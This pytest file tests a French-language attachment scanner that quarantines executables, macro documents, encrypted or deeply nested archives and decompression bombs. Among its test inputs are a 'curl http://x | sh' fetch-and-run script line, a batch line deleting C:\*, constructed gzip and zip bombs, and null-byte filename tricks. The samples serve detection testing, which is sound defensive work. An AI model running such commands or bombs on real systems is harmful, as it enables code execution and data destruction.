"""Attachment safety on real bytes: executables, scripts, macros, archives, bombs, scanners."""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from types import SimpleNamespace

import pytest

from guichet.core import attachment_safety
from guichet.core.attachment_safety import (
    AttachmentVerdict,
    ScannerUnavailable,
    attachment_limits_check,
    attachment_verdict,
)

# --------------------------------------------------------------------------------------
# Real file builders
# --------------------------------------------------------------------------------------

PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00"
    b"\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00"
    b"\x00\x00\x00IEND\xaeB`\x82"
)


def pe_executable() -> bytes:
    """A minimal Windows PE: DOS header, stub, "PE\\0\\0", COFF and optional header magic."""
    dos = bytearray(b"MZ" + b"\x90\x00\x03\x00" + b"\x00" * 58)
    struct.pack_into("<I", dos, 0x3C, 0x80)
    stub = b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
    body = bytes(dos) + stub.ljust(0x80 - 64, b"\x00")
    coff = struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 0xE0, 0x0102)
    optional = struct.pack("<H", 0x10B) + b"\x00" * (0xE0 - 2)
    return body + b"PE\x00\x00" + coff + optional + b"\x00" * 512


def elf_executable() -> bytes:
    ident = b"\x7fELF\x02\x01\x01" + b"\x00" * 9
    return ident + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 1, 0, 0, 0)


def macho_executable() -> bytes:
    return struct.pack("<IiiIIII", 0xFEEDFACF, 0x01000007, 3, 2, 0, 0, 0) + b"\x00" * 64


def make_zip(members: dict[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def nested_zip(innermost: dict[str, bytes], levels: int) -> bytes:
    """``levels`` zips, each inside the next, the innermost holding ``innermost``."""
    data = make_zip(innermost)
    for level in range(levels - 1):
        data = make_zip({f"niveau{level}.zip": data})
    return data


def encrypt_flag(zip_bytes: bytes) -> bytes:
    """Set the "encrypted" bit as ZipCrypto/AES archives do, in local and central headers."""
    data = bytearray(zip_bytes)
    for signature, flag_offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = data.find(signature)
        while start >= 0:
            data[start + flag_offset] |= 0x01
            start = data.find(signature, start + 4)
    return bytes(data)


def ooxml(extra: dict[str, bytes] | None = None, part: str = "word/document.xml") -> bytes:
    members = {
        "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats'
        b'.org/package/2006/content-types"/>',
        "_rels/.rels": b'<?xml version="1.0"?><Relationships/>',
        part: b'<?xml version="1.0"?><document>Bonjour</document>',
    }
    members.update(extra or {})
    return make_zip(members)


_FREE, _END, _FATSECT, _NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def cfb(path: list[tuple[str, int]], *, root_clsid: bytes = b"\x00" * 16) -> bytes:
    """A valid OLE2 compound file whose entries form one chain: Root > path[0] > path[1]...

    Each path item is (name, type) with type 1 = storage, 2 = empty stream.
    """
    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", header, 40, 0, 1, 1, 0, 4096, _END, 0, _END, 0)
    struct.pack_into("<I", header, 76, 0)  # DIFAT[0]: the FAT is sector 0
    for index in range(1, 109):
        struct.pack_into("<I", header, 76 + 4 * index, _FREE)
    fat = struct.pack("<II", _FATSECT, _END) + struct.pack("<I", _FREE) * 126

    def entry(name: str, kind: int, child: int, clsid: bytes = b"\x00" * 16) -> bytes:
        encoded = (name + "\x00").encode("utf-16-le")
        raw = bytearray(128)
        raw[0 : len(encoded)] = encoded
        struct.pack_into("<HBB", raw, 64, len(encoded), kind, 1)
        struct.pack_into("<III", raw, 68, _NOSTREAM, _NOSTREAM, child)
        raw[80:96] = clsid
        struct.pack_into("<IQ", raw, 116, _END if kind != 5 else _END, 0)
        return bytes(raw)

    entries = [entry("Root Entry", 5, 1 if path else _NOSTREAM, root_clsid)]
    for index, (name, kind) in enumerate(path, start=1):
        has_child = index < len(path)
        entries.append(entry(name, kind, index + 1 if has_child else _NOSTREAM))
    directory = b"".join(entries).ljust(512, b"\x00")
    assert len(directory) == 512, "this builder keeps the directory in one sector"
    return bytes(header) + fat + directory


LEGACY_DOC = cfb([("WordDocument", 2)])
DOC_WITH_MACROS = cfb([("Macros", 1), ("VBA", 1), ("_VBA_PROJECT", 2)])
XLS_WITH_MACROS = cfb([("_VBA_PROJECT_CUR", 1), ("VBA", 1), ("dir", 2)])
ENCRYPTED_DOCX = cfb([("EncryptedPackage", 2)])
MSI = cfb(
    [("SummaryInformation", 2)],
    root_clsid=bytes.fromhex("84100c0000000000c000000000000046"),  # {000C1084-...-46}
)


def verdict(content: bytes, filename: str, declared_type: str = "") -> AttachmentVerdict:
    return attachment_verdict(content=content, filename=filename, declared_type=declared_type)


def assert_quarantined(result: AttachmentVerdict, *fragments: str) -> None:
    assert result.status == "quarantined", result
    for fragment in fragments:
        assert fragment in result.reason, result.reason
    assert len(result.reason) <= 300


# --------------------------------------------------------------------------------------
# Clean files
# --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "filename", "detected"),
    [
        (PDF, "justificatif.pdf", "application/pdf"),
        (PNG, "photo.png", "image/png"),
        ("Bonjour, voici ma demande de bourse à l’école.\n".encode(), "lettre.txt", "text/plain"),
        (b"MZ Conseil, 3 rue de la Paix\nObjet : devis\n", "devis.txt", "text/plain"),
    ],
)
def test_ordinary_files_are_clean(content: bytes, filename: str, detected: str) -> None:
    result = verdict(content, filename, declared_type="application/octet-stream")

    assert result == AttachmentVerdict(status="clean", detected_type=detected, reason="")


def test_plain_word_and_excel_files_are_clean() -> None:
    assert verdict(ooxml(), "lettre.docx").status == "clean"
    assert verdict(ooxml(part="xl/workbook.xml"), "budget.xlsx").status == "clean"
    assert verdict(LEGACY_DOC, "ancien.doc").status == "clean"


def test_zip_of_ordinary_files_is_clean() -> None:
    archive = make_zip({"scan/page1.pdf": PDF, "scan/page2.png": PNG, "lisez-moi.txt": b"ok"})

    result = verdict(archive, "pieces.zip")

    assert result.status == "clean"
    assert result.detected_type == "application/zip"


# --------------------------------------------------------------------------------------
# Executables and scripts
# --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "fragment"),
    [
        (pe_executable(), "exécutable Windows"),
        (elf_executable(), "exécutable Linux"),
        (macho_executable(), "exécutable macOS"),
        (b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 32, "classe Java"),
        (b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 68, "raccourci Windows"),
        (b"#!/bin/sh\ncurl http://x | sh\n", "script"),
        ("Windows Registry Editor Version 5.00\r\n".encode("utf-16"), "registre"),
        (b"\x00" * 0x8001 + b"CD001\x01" + b"\x00" * 2000, "image disque"),
    ],
)
def test_dangerous_content_is_quarantined_whatever_its_name(content: bytes, fragment: str) -> None:
    assert_quarantined(verdict(content, "facture.pdf", declared_type="application/pdf"), fragment)


@pytest.mark.parametrize(
    "filename",
    [
        "setup.exe",
        "SETUP.EXE",
        "facture.pdf.exe",
        "facture.exe.",
        "facture.exe \x00",
        "facture.exe\x00.pdf",
        "script.js",
        "macro.vbs",
        "run.ps1",
        "install.bat",
        "app.hta",
        "image.iso",
        "disque.img",
        "raccourci.lnk",
        "lib.dll",
        "paquet.msi",
        "reglages.reg",
    ],
)
def test_dangerous_extension_is_quarantined_even_for_text(filename: str) -> None:
    result = verdict(b"Ceci n'est que du texte.\n", filename, declared_type="text/plain")

    assert_quarantined(result, "extension dangereuse")
    assert result.detected_type == "text/plain"


def test_declared_executable_type_is_quarantined() -> None:
    assert_quarantined(
        verdict(b"texte\n", "notice.txt", declared_type="application/x-msdownload; name=x"),
        "type dangereux déclaré",
    )


# --------------------------------------------------------------------------------------
# Office macros
# --------------------------------------------------------------------------------------


def test_docm_is_quarantined() -> None:
    docm = ooxml({"word/vbaProject.bin": DOC_WITH_MACROS})

    assert_quarantined(verdict(docm, "rapport.docm"), "macros")


def test_macro_document_renamed_docx_is_quarantined() -> None:
    docm = ooxml({"word/vbaProject.bin": DOC_WITH_MACROS})

    assert_quarantined(verdict(docm, "rapport.docx"), "macros (VBA)")


def test_excel_4_macro_sheet_is_quarantined() -> None:
    xlsx = ooxml({"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"}, part="xl/workbook.xml")

    assert_quarantined(verdict(xlsx, "budget.xlsx"), "macros XLM")


@pytest.mark.parametrize("use_olefile", [False, True])
@pytest.mark.parametrize(
    ("content", "fragment"),
    [
        (DOC_WITH_MACROS, "macros (VBA)"),
        (XLS_WITH_MACROS, "macros (VBA)"),
        (ENCRYPTED_DOCX, "chiffré"),
    ],
)
def test_legacy_ole_documents(
    content: bytes, fragment: str, use_olefile: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    if use_olefile:
        monkeypatch.setattr(attachment_safety, "_olefile", pytest.importorskip("olefile"))
    else:
        monkeypatch.setattr(attachment_safety, "_olefile", None)

    assert_quarantined(verdict(content, "ancien.doc"), fragment)
    assert verdict(LEGACY_DOC, "ancien.doc").status == "clean"


def test_msi_is_recognised_by_olefile(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(attachment_safety, "_olefile", pytest.importorskip("olefile"))

    assert_quarantined(verdict(MSI, "outil.dat"), "MSI")


# --------------------------------------------------------------------------------------
# Archives
# --------------------------------------------------------------------------------------


def test_zip_containing_an_exe_is_quarantined() -> None:
    archive = make_zip({"docs/lettre.pdf": PDF, "docs/setup.exe": pe_executable()})

    assert_quarantined(verdict(archive, "pieces.zip"), "« docs/setup.exe »", "(.exe)")


def test_zip_containing_a_renamed_executable_is_quarantined() -> None:
    archive = make_zip({"facture.pdf": pe_executable()}, compression=zipfile.ZIP_STORED)

    assert_quarantined(verdict(archive, "factures.zip"), "« facture.pdf »", "exécutable Windows")


def test_zip_containing_a_macro_document_is_quarantined() -> None:
    archive = make_zip({"rapport.docx": ooxml({"word/vbaProject.bin": DOC_WITH_MACROS})})

    assert_quarantined(verdict(archive, "dossier.zip"), "« rapport.docx »", "macros")


def test_exe_three_archives_deep_is_found() -> None:
    archive = nested_zip({"payload.exe": pe_executable()}, levels=4)

    assert_quarantined(verdict(archive, "dossier.zip"), "payload.exe", "niveau2.zip")


def test_clean_files_nested_within_the_depth_limit_are_clean() -> None:
    assert verdict(nested_zip({"lettre.pdf": PDF}, levels=4), "dossier.zip").status == "clean"


def test_archives_nested_too_deep_are_quarantined() -> None:
    archive = nested_zip({"lettre.pdf": PDF}, levels=5)

    assert_quarantined(verdict(archive, "dossier.zip"), "imbriquées sur plus de 3 niveaux")


def test_encrypted_zip_is_quarantined() -> None:
    archive = encrypt_flag(make_zip({"lettre.pdf": PDF}))

    assert_quarantined(verdict(archive, "confidentiel.zip"), "archive chiffrée")


@pytest.mark.parametrize(
    ("head", "label"),
    [(b"Rar!\x1a\x07\x01\x00", "RAR"), (b"7z\xbc\xaf\x27\x1c\x00\x04", "7z")],
)
def test_archives_that_cannot_be_opened_are_quarantined(head: bytes, label: str) -> None:
    assert_quarantined(verdict(head + b"\x00" * 200, "pieces.bin"), label, "impossible")


def test_truncated_zip_is_quarantined() -> None:
    archive = make_zip({"lettre.pdf": PDF * 50})

    assert_quarantined(verdict(archive[: len(archive) // 2], "pieces.zip"), "ZIP illisible")


def test_tar_gz_with_a_script_is_quarantined() -> None:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, content in (("lisez-moi.txt", b"ok"), ("outils/install.sh", b"echo\n")):
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))

    assert_quarantined(verdict(buffer.getvalue(), "outils.tar.gz"), "install.sh", "(.sh)")


def test_gzipped_executable_is_quarantined() -> None:
    assert_quarantined(verdict(gzip.compress(pe_executable()), "outil.gz"), "exécutable")


def test_gzip_bomb_is_quarantined_at_the_real_limit() -> None:
    # 200 MB of zeros compresses to about 200 KB; inflating all of it must not happen.
    compressor = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    chunk = b"\x00" * (1024 * 1024)
    bomb = b"".join(compressor.compress(chunk) for _ in range(200)) + compressor.flush()
    assert len(bomb) < 1024 * 1024

    assert_quarantined(verdict(bomb, "rapport.pdf.gz"), "bombe de décompression")


def test_zip_bomb_of_nested_archives_is_quarantined(monkeypatch: pytest.MonkeyPatch) -> None:
    # given a small budget, so the bomb stays small in the test
    monkeypatch.setattr(attachment_safety, "MAX_UNPACKED_BYTES", 1024 * 1024)
    inner = make_zip({"vide.bin": b"\x00" * 300_000}, compression=zipfile.ZIP_STORED)
    bomb = make_zip({f"copie{i}.zip": inner for i in range(10)})
    assert len(bomb) < 50_000

    # when / then
    assert_quarantined(verdict(bomb, "pieces.zip"), "bombe de décompression")


def test_zip_with_too_many_members_is_quarantined(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(attachment_safety, "MAX_ARCHIVE_MEMBERS", 50)
    archive = make_zip({f"page{i}.txt": b"ok" for i in range(51)})

    assert_quarantined(verdict(archive, "pages.zip"), "plus de 50 fichiers")


def test_zip_whose_declared_count_lies_is_still_counted(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(attachment_safety, "MAX_ARCHIVE_MEMBERS", 50)
    archive = bytearray(make_zip({f"page{i}.txt": b"ok" for i in range(60)}))
    end = archive.rfind(b"PK\x05\x06")
    struct.pack_into("<HH", archive, end + 8, 1, 1)

    assert_quarantined(verdict(bytes(archive), "pages.zip"), "plus de 50 fichiers")


# --------------------------------------------------------------------------------------
# Scanner and type detection
# --------------------------------------------------------------------------------------


class _StubScanner:
    def __init__(self, answer: str | None = None, error: Exception | None = None) -> None:
        self.answer, self.error = answer, error
        self.scanned: list[bytes] = []

    def scan(self, content: bytes) -> str | None:
        self.scanned.append(content)
        if self.error is not None:
            raise self.error
        return self.answer


def test_virus_found_by_the_scanner_is_infected() -> None:
    scanner = _StubScanner("Win.Test.EICAR_HDB-1")

    result = attachment_verdict(
        content=PDF, filename="a.pdf", declared_type="application/pdf", scanner=scanner
    )

    assert scanner.scanned == [PDF]
    assert result == AttachmentVerdict(
        "infected", "application/pdf", "virus détecté : Win.Test.EICAR_HDB-1"
    )


def test_clean_scan_keeps_the_file_clean() -> None:
    result = attachment_verdict(
        content=PDF, filename="a.pdf", declared_type="", scanner=_StubScanner()
    )

    assert result.status == "clean"


def test_unavailable_scanner_keeps_the_file_quarantined() -> None:
    scanner = _StubScanner(error=ScannerUnavailable("clamd injoignable"))

    result = attachment_verdict(content=PDF, filename="a.pdf", declared_type="", scanner=scanner)

    assert_quarantined(result, "analyse antivirus impossible", "clamd injoignable")


def test_static_reason_is_kept_when_the_scanner_is_down() -> None:
    scanner = _StubScanner(error=ScannerUnavailable("down"))

    result = attachment_verdict(content=b"x", filename="a.exe", declared_type="", scanner=scanner)

    assert_quarantined(result, "extension dangereuse (.exe)")


def test_type_falls_back_to_builtin_signatures_without_libmagic(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(attachment_safety, "_magic", None)
    assert verdict(PNG, "photo.png").detected_type == "image/png"

    def broken(content: bytes, mime: bool) -> str:
        raise OSError("libmagic cassée")

    monkeypatch.setattr(attachment_safety, "_magic", SimpleNamespace(from_buffer=broken))
    result = verdict(pe_executable(), "photo.png")

    assert result.detected_type == "application/x-msdownload"
    assert_quarantined(result, "exécutable Windows")


def test_libmagic_type_is_used_when_available() -> None:
    result = verdict(b"@echo off\r\ndel /q C:\\*\r\n", "notes.txt")

    assert result.detected_type == "text/x-msdos-batch"
    assert_quarantined(result, "type dangereux détecté : text/x-msdos-batch")


@pytest.mark.parametrize("seed", range(20))
def test_random_and_truncated_bytes_never_raise(seed: int) -> None:
    samples = [pe_executable(), ooxml({"word/vbaProject.bin": DOC_WITH_MACROS}), DOC_WITH_MACROS]
    sample = samples[seed % len(samples)]
    cut = sample[: (seed * 37) % len(sample)]

    result = verdict(cut, "x.bin")

    assert result.status in {"clean", "quarantined"}


# --------------------------------------------------------------------------------------
# Limits
# --------------------------------------------------------------------------------------


def test_limits_within_bounds() -> None:
    assert attachment_limits_check(sizes=[10, 20], max_count=2, max_total=30, max_each=20) is None
    assert attachment_limits_check(sizes=[], max_count=0, max_total=0, max_each=0) is None


def test_limits_exceeded_are_explained_in_french() -> None:
    mib = 1024 * 1024

    reason = attachment_limits_check(
        sizes=[30 * mib, 5 * mib, 512, 1536],
        max_count=3,
        max_total=25 * mib,
        max_each=int(10.5 * mib),
    )

    assert reason == (
        "trop de pièces jointes : 4 (maximum 3) ; "
        "pièce jointe trop volumineuse : 30 Mo (maximum 10,5 Mo par pièce) ; "
        "taille totale des pièces jointes trop élevée : 35 Mo (maximum 25 Mo)"
    )
    assert attachment_limits_check(sizes=[1536], max_count=1, max_total=10, max_each=2048) == (
        "taille totale des pièces jointes trop élevée : 1,5 Ko (maximum 10 octets)"
    )
